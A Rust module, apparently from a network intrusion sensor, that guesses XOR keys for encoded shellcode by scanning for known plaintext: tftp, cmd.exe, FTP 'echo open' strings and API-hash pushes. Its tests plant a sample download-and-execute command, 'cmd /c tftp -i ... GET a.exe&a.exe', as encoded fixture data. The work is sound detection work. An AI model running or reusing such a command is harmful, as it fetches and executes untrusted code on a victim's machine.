//! Key guessing from known plaintext, for encoded shellcode bodies whose
//! stub was not recognised.
//!
//! XOR with a fixed key keeps the XOR of neighbouring bytes: for a 1-byte
//! key `c[i] ^ c[i+1] == p[i] ^ p[i+1]`, for a 4-byte key `c[i] ^ c[i+4]
//! == p[i] ^ p[i+4]`. So one pass over the payload's difference sequence
//! per known plaintext (a download command, `cmd.exe`, a `push` of an API
//! hash) finds where it sits encoded under any key, and the key is then
//! one XOR away. The stretch around the hit is decoded; the caller reads
//! it (the sensor keeps a guess only when the stretch reads as shellcode).

use super::hashes::KNOWN;
use super::{DecoderKind, ShellcodeWork, MAX_BODY};

/// At most this many keys are tried per payload.
pub const MAX_GUESSES: usize = 4;
/// Hits looked at per plaintext.
const HITS_PER_TEXT: usize = 4;
/// The decoded stretch starts this far before the first hit.
const BACK: usize = 1024;

/// Text a download or shell body carries.
const TEXTS: [&[u8]; 7] = [
    b"tftp -i ",
    b"tftp.exe",
    b"echo open ",
    b"http://",
    b"ftp://",
    b"cmd /c ",
    b"cmd.exe",
];

/// A key found, aligned to payload offsets: byte `i` of the payload is
/// XORed with `key[i % key.len()]`.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Guess {
    key: Vec<u8>,
    first_hit: usize,
}

/// A stretch of the payload decoded with a guessed key.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Guessed {
    /// Payload offset where the decoded stretch starts.
    pub start: usize,
    /// [`DecoderKind::GuessedXorByte`] or [`DecoderKind::GuessedXorDword`].
    pub decoder: DecoderKind,
    /// The key as met from `start` on.
    pub key: Vec<u8>,
    /// Payload offset of the first known plaintext found under the key.
    pub first_hit: usize,
    /// The decoded stretch (at most [`MAX_BODY`] bytes).
    pub body: Vec<u8>,
}

fn inside(covered: &[(usize, usize)], i: usize) -> bool {
    covered.iter().any(|&(a, b)| (a..b).contains(&i))
}

fn note(guesses: &mut Vec<Guess>, key: Vec<u8>, hit: usize) {
    if let Some(g) = guesses.iter_mut().find(|g| g.key == key) {
        g.first_hit = g.first_hit.min(hit);
    } else if guesses.len() < MAX_GUESSES {
        guesses.push(Guess {
            key,
            first_hit: hit,
        });
    }
}

/// Bits of the first-word filter of [`PatternSet`].
const FILTER_BITS: u32 = 12;

/// The known texts in XOR-difference form at one distance `d`, found all
/// in one pass: a window's first difference word (`p[i..i+4] ^
/// p[i+d..i+d+4]`) is looked up in a bit filter, and only filter hits are
/// compared with the texts. One pass instead of one `memmem` pass per
/// text (34 at distance 1).
struct PatternSet {
    d: usize,
    /// `(text index, differences)` of each text long enough for `d`.
    texts: Vec<(usize, Vec<u8>)>,
    /// Set bits: hashes of the texts' first difference words.
    filter: Vec<u64>,
}

fn bucket(w: u32) -> usize {
    (w.wrapping_mul(0x9e37_79b1) >> (32 - FILTER_BITS)) as usize
}

fn word(b: &[u8], i: usize) -> u32 {
    u32::from_le_bytes([b[i], b[i + 1], b[i + 2], b[i + 3]])
}

impl PatternSet {
    fn new(texts: &[Vec<u8>], d: usize) -> PatternSet {
        let mut set = PatternSet {
            d,
            texts: Vec::new(),
            filter: vec![0; 1 << (FILTER_BITS - 6)],
        };
        for (k, t) in texts.iter().enumerate().filter(|(_, t)| t.len() >= d + 4) {
            let td: Vec<u8> = t.iter().zip(&t[d..]).map(|(a, b)| a ^ b).collect();
            let h = bucket(word(&td, 0));
            set.filter[h >> 6] |= 1 << (h & 63);
            set.texts.push((k, td));
        }
        set
    }

    /// Every position of `p` (ascending) where text `k`'s differences
    /// sit: `hit(k, i)`.
    fn scan(&self, p: &[u8], mut hit: impl FnMut(usize, usize)) {
        let d = self.d;
        if self.texts.is_empty() || p.len() < d + 4 {
            return;
        }
        let n = p.len() - d; // length of the difference sequence
        for i in 0..=n - 4 {
            let w = word(p, i) ^ word(p, i + d);
            let h = bucket(w);
            if self.filter[h >> 6] & (1 << (h & 63)) == 0 {
                continue;
            }
            for (k, td) in &self.texts {
                if i + td.len() <= n
                    && td
                        .iter()
                        .enumerate()
                        .all(|(j, &x)| p[i + j] ^ p[i + j + d] == x)
                {
                    hit(*k, i);
                }
            }
        }
    }
}

/// Stretches of `p` outside `covered` that a 1- or 4-byte XOR key turns
/// into known shellcode text or API-hash pushes (at most
/// [`MAX_GUESSES`]), decoded.
pub fn guess_keys(p: &[u8], covered: &[(usize, usize)], work: &mut ShellcodeWork) -> Vec<Guessed> {
    let mut texts: Vec<Vec<u8>> = TEXTS.iter().map(|t| t.to_vec()).collect();
    for (h, _) in KNOWN {
        let mut push = vec![0x68];
        push.extend_from_slice(&h.to_le_bytes());
        texts.push(push);
    }
    let mut guesses = Vec::new();
    for d in [1usize, 4] {
        if p.len() <= d {
            continue;
        }
        work.bytes_scanned += p.len() as u64;
        let set = PatternSet::new(&texts, d);
        // Per text, as a `memmem` iteration over the differences would
        // give them: non-overlapping hits in order, those outside
        // `covered`, the first HITS_PER_TEXT.
        let mut next = vec![0usize; texts.len()];
        let mut hits: Vec<Vec<usize>> = vec![Vec::new(); texts.len()];
        set.scan(p, |k, i| {
            if i < next[k] || hits[k].len() == HITS_PER_TEXT {
                return;
            }
            next[k] = i + texts[k].len() - d;
            if !inside(covered, i) {
                hits[k].push(i);
            }
        });
        for (k, _) in &set.texts {
            work.bytes_scanned += (p.len() - d) as u64;
            let t = &texts[*k];
            for &i in &hits[*k] {
                let mut key = vec![0u8; d];
                for k in 0..d {
                    key[(i + k) % d] = p[i + k] ^ t[k];
                }
                let single = key.iter().all(|&b| b == key[0]);
                if single && (d == 4 || key[0] == 0) {
                    // Plain text, or a byte key (found by the first pass).
                    continue;
                }
                note(&mut guesses, key, i);
            }
        }
    }
    let mut out = Vec::new();
    for g in guesses {
        let start = g.first_hit.saturating_sub(BACK);
        let end = (start + MAX_BODY).min(p.len());
        let n = g.key.len();
        let body: Vec<u8> = (start..end).map(|i| p[i] ^ g.key[i % n]).collect();
        work.bytes_scanned += body.len() as u64;
        let key: Vec<u8> = (start..start + n).map(|i| g.key[i % n]).collect();
        out.push(Guessed {
            start,
            decoder: if n == 1 {
                DecoderKind::GuessedXorByte
            } else {
                DecoderKind::GuessedXorDword
            },
            key,
            first_hit: g.first_hit,
            body,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The hits of the one-pass scan are the `memmem` hits over the
    /// difference sequence, text by text (the search it replaced),
    /// including overlapping and repeated texts and ones at the very end.
    #[test]
    fn one_pass_scan_finds_what_memmem_finds() {
        let mut texts: Vec<Vec<u8>> = TEXTS.iter().map(|t| t.to_vec()).collect();
        for (h, _) in KNOWN {
            let mut push = vec![0x68];
            push.extend_from_slice(&h.to_le_bytes());
            texts.push(push);
        }
        // Seeded junk with texts under byte and dword keys, back to back
        // and overlapping ("cmd.exe" inside "tftp.exe"-like runs), one
        // API-hash push and a text ending at the last byte.
        let mut x = 0x1234_5678u32;
        let mut p: Vec<u8> = (0..5000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                x as u8
            })
            .collect();
        let put = |p: &mut Vec<u8>, at: usize, t: &[u8], key: &[u8]| {
            for (j, &c) in t.iter().enumerate() {
                p[at + j] = c ^ key[(at + j) % key.len()];
            }
        };
        put(&mut p, 100, b"cmd /c cmd /c cmd.exe", &[0x5a]);
        put(&mut p, 400, b"echo open tftp -i tftp.exe", &[1, 2, 3, 4]);
        put(&mut p, 900, &texts[10], &[0x77]);
        put(&mut p, 1200, b"http://http://", &[0; 1]);
        let end = p.len() - 7;
        put(&mut p, end, b"cmd.exe", &[0x33]);
        for d in [1usize, 4] {
            let pd: Vec<u8> = p.iter().zip(&p[d..]).map(|(a, b)| a ^ b).collect();
            let set = PatternSet::new(&texts, d);
            let mut got: Vec<Vec<usize>> = vec![Vec::new(); texts.len()];
            set.scan(&p, |k, i| got[k].push(i));
            for (k, t) in texts.iter().enumerate() {
                let want: Vec<usize> = if t.len() >= d + 4 {
                    let td: Vec<u8> = t.iter().zip(&t[d..]).map(|(a, b)| a ^ b).collect();
                    // Overlapping hits too: the caller drops overlaps.
                    (0..=pd.len() - td.len())
                        .filter(|&i| pd[i..].starts_with(&td))
                        .collect()
                } else {
                    Vec::new()
                };
                assert_eq!(got[k], want, "distance {d}, text {k}");
            }
            assert!(!got.iter().all(|h| h.is_empty()), "distance {d}");
        }
        // The planted hits: "cmd /c " at 100 and 107 (distance 1), the
        // end text at the last 7 bytes.
        let set = PatternSet::new(&texts, 1);
        let mut cmd_c = Vec::new();
        let mut cmd_exe = Vec::new();
        set.scan(&p, |k, i| match k {
            5 => cmd_c.push(i),
            6 => cmd_exe.push(i),
            _ => {}
        });
        assert_eq!(cmd_c, vec![100, 107]);
        assert_eq!(cmd_exe, vec![114, end]);
    }

    #[test]
    fn byte_and_dword_keys_from_a_download_command() {
        let text = b"junk\xff\xfe cmd /c tftp -i 10.0.0.1 GET a.exe&a.exe\0 more";
        let mut p = vec![0x41u8; 37];
        let at = p.len();
        p.extend(text.iter().map(|b| b ^ 0x5a));
        let got = guess_keys(&p, &[], &mut ShellcodeWork::default());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorByte);
        assert_eq!(got[0].key, vec![0x5a]);
        assert_eq!(&got[0].body[at..], &text[..]);
        // Covered already (a stub decoded it): not guessed again.
        assert!(guess_keys(&p, &[(at, p.len())], &mut ShellcodeWork::default()).is_empty());

        let key = [0x11u8, 0x22, 0x33, 0x44];
        let mut p = vec![0x41u8; 37];
        p.extend(text.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
        let got = guess_keys(&p, &[], &mut ShellcodeWork::default());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorDword);
        assert_eq!(got[0].start, 0);
        // Key as met from the stretch's start (offset 0): rotated by `at`.
        let rot: Vec<u8> = (0..4).map(|i| key[(i + 4 - at % 4) % 4]).collect();
        assert_eq!(got[0].key, rot);
        assert_eq!(&got[0].body[at..], &text[..]);
    }
}
